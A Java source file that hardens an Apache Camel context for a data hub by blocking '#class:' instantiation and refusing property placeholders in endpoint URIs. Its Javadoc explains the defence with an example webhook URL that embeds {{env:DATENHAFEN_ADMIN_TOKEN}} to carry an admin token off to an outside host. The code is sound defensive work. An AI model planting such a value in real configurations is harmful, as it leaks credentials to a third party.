package de.datenhafen.core.camel;

import java.util.Map;
import org.apache.camel.Endpoint;
import org.apache.camel.component.properties.PropertiesComponent;
import org.apache.camel.component.properties.PropertiesLookup;
import org.apache.camel.component.properties.PropertiesParser;
import org.apache.camel.impl.DefaultCamelContext;

/**
 * The hub's Camel context, closed to two ways a config value written into a route could reach the hub itself:
 * <ul>
 * <li>Every endpoint it makes, whichever component's and whichever way it is asked for ({@code from}, {@code to},
 * {@code toD}, a producer template), first passes {@link EndpointOptions#noClassMaking}. Camel makes the class an
 * option's value names with {@code #class:} (its constructor or factory method runs, whatever the option's type), and
 * a plugin that writes a config value into a stock component's URI ({@code timer:}, {@code http:}, ...) could
 * otherwise let the integration's editor run one: the hub's own components check their options, Camel's do not.</li>
 * <li>Property placeholders are off: Camel reads {@code {{env:NAME}}} and {@code {{sys:name}}} in an endpoint URI,
 * inside {@code RAW(...)} too and percent-encoded outside it, and puts the hub's environment there, so a webhook
 * sink's URL {@code https://example.org/?t={{env:DATENHAFEN_ADMIN_TOKEN}}} sent the hub-admin's token to whoever
 * a member-admin named. Neither the hub nor its plugins use placeholders; any text holding <code>{{</code> that Camel would
 * resolve (a URI, a log message, an expression of a route) fails instead, the route's start with it.</li>
 * </ul>
 */
public class HubCamelContext extends DefaultCamelContext {

    @Override
    protected org.apache.camel.spi.PropertiesComponent createPropertiesComponent() {
        org.apache.camel.spi.PropertiesComponent created = super.createPropertiesComponent();
        if (created instanceof PropertiesComponent pc) {
            pc.setPropertiesParser(new NoPlaceholders());
        }
        return created;
    }

    @Override
    protected Endpoint doGetEndpoint(String uri, Map<String, Object> parameters, boolean normalized,
                                     boolean prototype) {
        EndpointOptions.noClassMaking(uri, parameters);
        EndpointOptions.noPlaceholders(uri, parameters);
        return super.doGetEndpoint(uri, parameters, normalized, prototype);
    }

    /** Resolves no placeholder: refuses text that holds one, naming nothing of it (it may hold a secret). */
    static final class NoPlaceholders implements PropertiesParser {
        @Override
        public String parseUri(String text, PropertiesLookup properties, boolean fallback, boolean keepUnresolved,
                               boolean nested) {
            if (text != null && text.contains("{{")) {
                throw new IllegalArgumentException(EndpointOptions.PLACEHOLDERS_OFF);
            }
            return text;
        }

        @Override
        public String parseProperty(String key, String value, PropertiesLookup properties) {
            return value;
        }
    }
}
